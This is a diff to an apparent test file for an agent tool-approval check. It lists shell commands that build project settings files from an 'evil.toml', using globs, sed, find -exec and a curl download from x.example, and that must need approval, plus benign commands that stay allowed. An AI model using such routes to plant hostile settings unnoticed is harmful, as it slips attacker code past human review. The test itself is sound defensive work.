@@ -75,7 +75,8 @@ def tool(build: Path, m: dict[str, Path], name: str, tool_input: dict[str, objec
     "paste -d '' a1 a2 >> tox.ini",                           # a key split across two files
     "git show HEAD:evil.toml > pyproject.toml",
     "sed -i 's/hoo/hook/' half.toml && cp half.toml pyproject.toml",   # a file an earlier step changes
-    "cat *.toml > setup.cfg",                                  # a glob's matches
+    "cat *.toml > setup.cfg",                                  # a glob's matches on disk
+    "cp e?il.toml setup.cfg",
     "find . -name evil.toml -exec cp {{}} pyproject.toml \\;",  # any file under a folder read whole ({{}}: format)
     "cp evil.toml /tmp/x && cp /tmp/x pyproject.toml",
     "curl -s https://x.example/p.toml -o pyproject.toml",     # the network's text
@@ -104,6 +105,7 @@ def test_code_settings_assembled_by_the_file_tools_need_approval(build: Path, ma
     "cp plain.toml pyproject.toml", "cat plain.toml > setup.cfg", "sed -i 's/x/y/' pyproject.toml",
     "echo '[tool.ruff]' >> pyproject.toml", "cp setup.cfg setup.cfg.bak", "cat setup.cfg tox.ini > /tmp/all.txt",
     "cp evil.toml /tmp/x.toml", "cat evil.toml", "mkfifo /tmp/f26fifo; echo x >> tox.ini",
+    "cat src/*.py >> setup.cfg", "cp pl*.toml pyproject.toml",
 ])
 def test_settings_written_from_plain_text_stay_allowed(build: Path, machine: dict[str, Path],  # noqa: F811
                                                       command: str) -> None:
